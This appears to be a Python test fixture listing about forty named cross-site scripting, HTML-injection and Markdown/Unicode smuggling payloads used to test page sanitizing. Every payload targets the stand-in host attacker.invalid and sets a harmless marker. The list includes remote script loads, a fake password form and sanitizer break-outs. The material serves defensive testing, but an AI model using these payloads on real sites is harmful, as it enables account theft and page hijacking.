"""Texts that would take over a page which showed them as they are. Each says in its name what it tries.

Every address leads to `https://attacker.invalid`, and every script sets `window.__taken`: a test looks for both.
"""

from __future__ import annotations

AWAY = "https://attacker.invalid"
TAKEN = "window.__taken=1"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{TAKEN}</script>",
    "script from elsewhere": f'<script src="{AWAY}/a.js"></script>',
    "image error": f'<img src="{AWAY}/x.png" onerror="{TAKEN}">',
    "image without quotes": f"<img/src={AWAY}/y.png/onerror={TAKEN}>",
    "svg load": f'<svg onload="{TAKEN}"><image href="{AWAY}/z.png"/></svg>',
    "svg animation": f'<svg><animate onbegin="{TAKEN}" attributeName="x" dur="1s"/></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={TAKEN}>#x"/></svg>',
    "frame": f'<iframe src="{AWAY}/frame"></iframe>',
    "frame with script": f'<iframe srcdoc="<script>parent.{TAKEN}</script>"></iframe>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/">',
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:#fff">SESSION EXPIRED</div>',
    "login form": f'<form action="{AWAY}/login"><input type="password" autofocus><button>Sign in</button></form>',
    "style element": f"<style>body{{display:none;background:url({AWAY}/bg.png)}}</style>",
    "style import": f'<style>@import "{AWAY}/a.css";</style>',
    "style sheet": f'<link rel="stylesheet" href="{AWAY}/b.css">',
    "prefetch": f'<link rel="dns-prefetch" href="{AWAY}"><link rel="prefetch" href="{AWAY}/p">',
    "background": f'<table background="{AWAY}/t.png"><td background="{AWAY}/td.png">cell</td></table>',
    "video": f'<video src="{AWAY}/v.mp4" poster="{AWAY}/p.png" autoplay></video>',
    "audio": f'<audio src="{AWAY}/a.mp3" autoplay onerror="{TAKEN}"></audio>',
    "object": f'<object data="{AWAY}/o.swf"></object><embed src="{AWAY}/e.swf">',
    "base": f'<base href="{AWAY}/">',
    "details": f'<details open ontoggle="{TAKEN}"><summary>More</summary></details>',
    "template": f"<template><img src=x onerror={TAKEN}></template><noscript><img src={AWAY}/n.png></noscript>",
    "noscript break-out": f'<noscript><p title="</noscript><img src=x onerror={TAKEN}>"></noscript>',
    "mathematics": f"<math><mtext><mglyph><style><img src=x onerror={TAKEN}></style></mglyph></mtext></math>",
    "text area break-out": f"</textarea></title></style></script><script>{TAKEN}</script>",
    "mark break-out": f'</mark></p></div></article><img src="{AWAY}/m.png" onerror="{TAKEN}">',
    "attribute break-out": f'" autofocus onfocus="{TAKEN}" x="',
    "Markdown image": f"![picture]({AWAY}/md.png)",
    "Markdown image by reference": f"![picture][ref]\n\n[ref]: {AWAY}/ref.png",
    "Markdown script link": f"[press here](javascript:{TAKEN})",
    "script link": f'<a href="javascript:{TAKEN}">press here</a>',
    "data link": f'<a href="data:text/html,<script>{TAKEN}</script>">press here</a>',
    "bare address": f"See {AWAY}/bare and www.attacker.invalid/www now",
    "template language": f"{{{{constructor.constructor('{TAKEN}')()}}}} ${{{TAKEN}}} {{% raw %}} %%%LATEX_BLOCK_0%%%",
    "formula": rf"$$\href{{javascript:{TAKEN}}}{{x}}$$ $\includegraphics{{{AWAY}/i.png}}$",
    "diagram": f'```mermaid\ngraph TD; A["<img src={AWAY}/g.png onerror={TAKEN}>"]\n```',
    "direction override": "approved \u202etnemyap\u202c \u2066hidden\u2069 \u200bnot\u200b \U000e0041\U000e0042 end",
    "full-width brackets": f"\uff1cscript\uff1e{TAKEN}\uff1c/script\uff1e",
    "unclosed comment": f"<!-- <img src=x onerror={TAKEN}> --!><svg/onload={TAKEN}><!--",
    "character data": f"<![CDATA[<img src=x onerror={TAKEN}>]]><?xml version='1.0'?>",
    "zero byte": f"<scr\x00ipt>{TAKEN}</scr\x00ipt>",
    "entities": "&lt;img src=x onerror=window.__taken=1&gt; &#x3C;script&#x3E;window.__taken=1&#x3C;/script&#x3E;",
}
